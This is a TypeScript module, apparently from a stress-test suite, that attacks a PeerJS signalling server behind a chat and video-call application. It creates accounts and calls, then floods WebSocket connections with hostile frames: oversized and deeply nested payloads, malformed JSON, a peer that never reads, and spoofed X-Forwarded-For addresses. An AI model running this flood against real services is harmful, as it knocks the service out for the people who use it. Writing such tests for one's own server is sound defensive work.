import { once } from 'node:events';
import WebSocket from 'ws';
import { attackerAddress, type Attack } from '../attack';
import { createChannel, register, rest } from '../http';

const nested = (levels: number): string => '['.repeat(levels) + ']'.repeat(levels);
const frame = (dst: string, payload: string): string => `{"type":"OFFER","dst":${dst},"payload":${payload}}`;

/**
 * The frames of a peer: to a destination that is not a string, to a peer that does not read, to an unknown peer, and
 * deeply nested. @param reader the peer id of the one that does not read.
 */
const framesTo = (reader: string): string[] => [
  frame('{"toString":1,"valueOf":1}', '1'),
  frame(`"${reader}"`, `"${'x'.repeat(60_000)}"`),
  frame('"nobody"', `"${'x'.repeat(60_000)}"`),
  frame(`"${reader}"`, nested(20_000)),
  '{"type":"LEAVE"}',
  'not JSON',
];

/** How many frames of a kind one connection sends before it is replaced by another one. */
const FRAMES_PER_CONNECTION = 500;

/** The accounts beside the reader of each call, which has at most eight participants. */
const CALLERS_PER_CALL = 7;
const CALLS = 2;

/** An account, and the channel of its call. */
interface Participant {
  token: string;
  channelId: string;
  address: string;
}

export const peers: Attack = {
  what: 'PeerJS connections, with and without an account, that flood the server with hostile frames',
  parallel: 12,
  async prepare(url) {
    const calls = await Promise.all(Array.from({ length: CALLS }, (_, index) => startCall(url, index)));
    return async (index) => {
      const { reader, callers } = calls[index % CALLS]!;
      const isAnonymous = index % 4 === 0;
      const caller = callers[index % CALLERS_PER_CALL]!;
      const { peerId, ticket } = isAnonymous
        ? { peerId: `peer${index}`, ticket: 'nothing' }
        : await joinCall(url, caller);
      const socket = connect(url, peerId, ticket, attackerAddress(index));
      const closed = once(socket, 'close');
      await Promise.race([once(socket, 'open'), closed]);
      const frames = framesTo(reader.peerId);
      for (let each = 0; each < FRAMES_PER_CONNECTION && socket.readyState === WebSocket.OPEN; each++) {
        socket.send(frames[index % frames.length]!);
        // Frames that wait in the memory of the attacker would not be an attack.
        if (socket.bufferedAmount > 1024 * 1024) await new Promise((resolve) => setTimeout(resolve, 5));
      }
      socket.close();
      await closed;
    };
  },
};

function connect(url: string, id: string, ticket: string, address: string): WebSocket {
  const query = new URLSearchParams({ key: 'peerjs', id, token: ticket, version: '1.5.5' });
  const socket = new WebSocket(`${url.replace('http', 'ws')}/peerjs/peerjs?${query.toString()}`, {
    headers: { 'X-Forwarded-For': address },
  });
  socket.on('error', () => undefined);
  return socket;
}

/** Joins the call of the channel, or starts it. A user who is in it moves to a new peer id. */
async function joinCall(
  url: string,
  { token, channelId, address }: Participant,
): Promise<{ peerId: string; ticket: string }> {
  const call = { token, address, body: { channelId } };
  const { connection } = await rest<{ connection: { peerId: string; ticket: string } }>(
    url,
    'POST',
    '/api/video-calls',
    call,
  );
  return connection;
}

/** Creates a channel with a call, in which one peer is connected that does not read: it receives half of the frames. */
async function startCall(
  url: string,
  index: number,
): Promise<{ reader: { peerId: string }; callers: Participant[] }> {
  const address = attackerAddress(index);
  const owner = await register(url, `reader${index}`, address);
  const channelId = await createChannel(url, owner, address);
  const channel = await rest<{ channel: { groupId: string } }>(url, 'GET', `/api/channels/${channelId}`, {
    token: owner,
    address,
  });
  const callers: Participant[] = [];
  for (let each = 0; each < CALLERS_PER_CALL; each++) {
    const token = await register(url, `caller${index}x${each}`, address);
    const { user } = await rest<{ user: { id: string } }>(url, 'GET', '/api/users/me', { token, address });
    await rest(url, 'POST', `/api/groups/${channel.channel.groupId}/members`, {
      token: owner,
      address,
      body: { userId: user.id },
    });
    callers.push({ token, channelId, address });
  }
  const reader = { peerId: '' };
  const open = async (): Promise<void> => {
    const { peerId, ticket } = await joinCall(url, { token: owner, channelId, address });
    reader.peerId = peerId;
    const socket = connect(url, peerId, ticket, address);
    socket.on('open', () => socket.pause());
    // The server ends a connection that does not read.
    socket.on('close', () => void open().catch(() => undefined));
  };
  await open();
  return { reader, callers };
}
